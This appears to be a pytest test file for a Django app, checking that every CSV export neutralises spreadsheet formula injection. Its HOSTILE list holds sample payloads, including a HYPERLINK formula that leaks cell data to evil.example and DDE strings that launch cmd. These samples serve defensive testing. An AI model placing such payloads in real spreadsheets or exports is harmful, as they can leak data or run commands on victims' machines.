"""Every CSV the app hands out is written by accounts.csv_export: whatever export a value lands
in (clients, actions, a review's report, any dashboard panel), a value a spreadsheet would run as
a formula goes out as text, and no module writes CSV any other way."""

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path
from unittest import mock

import pytest
from django.urls import reverse

from accounts.csv_export import spreadsheet_safe
from dashboard.panels import PANELS, Panel
from retrospectives.models import Phase
from tests.factories import (
    ActionFactory,
    ClientFactory,
    ContributionFactory,
    LessonFactory,
    ReviewFactory,
    UserFactory,
)

ROOT = Path(__file__).resolve().parents[2]

# What an attacker types as a client's name, a note or a person's display name.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1dHYPERLINK(1)",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_export_turns_a_formula_into_text(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["Acme Holdings", "O'Brien & Co", "Dana - tax", "", "a=b", "100%", "Zoë Åberg-Müller & Co"],
)
def test_csv_export_leaves_ordinary_text_alone(value):
    assert spreadsheet_safe(value) == value


@pytest.mark.parametrize("value", [-5, Decimal("-1250.50"), -0.25, dt.date(2026, 1, 2), True, 0])
def test_csv_export_leaves_numbers_and_dates_alone(value):
    assert spreadsheet_safe(value) == value


def test_csv_export_writes_none_as_an_empty_cell():
    assert spreadsheet_safe(None) == ""


def _cells(response) -> list[str]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]


def _assert_neutralised(cells: list[str], values: list[str]) -> None:
    for value in values:
        # The csv module writes a line break inside a quoted cell; it reads back the same.
        assert "'" + value in cells, value
        assert value not in cells, value


@pytest.mark.django_db
def test_the_client_export_neutralises_every_hostile_name(client, pat):
    for n, name in enumerate(HOSTILE):
        ClientFactory(name=name, industry="", annual_fees=1000 + n)
    client.force_login(pat)
    _assert_neutralised(_cells(client.get(reverse("feedback:client_export"))), HOSTILE)


@pytest.mark.django_db
def test_the_action_export_neutralises_titles_owners_clients_and_evidence(client, pat):
    owner = UserFactory(display_name="=HYPERLINK(owner)")
    hostile_client = ClientFactory(name="@SUM(client)")
    ActionFactory(
        title="+title",
        owner=owner,
        client=hostile_client,
        status="done",
        evidence="-evidence",
    )
    client.force_login(pat)
    cells = _cells(client.get(reverse("actions:action_export")))
    _assert_neutralised(cells, ["=HYPERLINK(owner)", "@SUM(client)", "+title", "-evidence"])


@pytest.mark.django_db
def test_the_report_export_neutralises_notes_owners_and_lessons(client, pat):
    review = ReviewFactory(status="closed")
    ContributionFactory(review=review, phase=Phase.ACTUAL, text="\t=note")
    LessonFactory(review=review, statement_internal="@lesson", statement_public="")
    ActionFactory(source_review=review, title="=action", owner=UserFactory(display_name="+owner"))
    client.force_login(pat)
    cells = _cells(client.get(reverse("retrospectives:review_report_csv", args=[review.pk])))
    _assert_neutralised(cells, ["\t=note", "@lesson", "=action", "+owner"])


@pytest.mark.django_db
@pytest.mark.parametrize("panel", list(PANELS))
def test_every_dashboard_panel_goes_out_neutralised(client, pat, panel):
    rows = [["Label", "Value"], *([value, -3] for value in HOSTILE)]
    client.force_login(pat)
    with mock.patch.object(Panel, "csv_rows", autospec=True, return_value=iter(rows)) as panel_rows:
        response = client.get(reverse("dashboard:export", kwargs={"panel": panel}))
    assert panel_rows.call_args.args[0].key == panel
    cells = _cells(response)
    _assert_neutralised(cells, HOSTILE)
    assert "-3" in cells  # a number stays a number


def _python_sources():
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT)
        if relative.parts[0] in {".venv", "tests", "bench"} or "migrations" in relative.parts:
            continue
        yield relative, path.read_text()


def test_no_module_writes_csv_but_the_one_writer():
    writers = re.compile(r"csv\.(writer|DictWriter)\(|text/csv")
    others = [
        str(relative)
        for relative, source in _python_sources()
        if writers.search(source) and relative != Path("accounts/csv_export.py")
    ]
    assert others == []
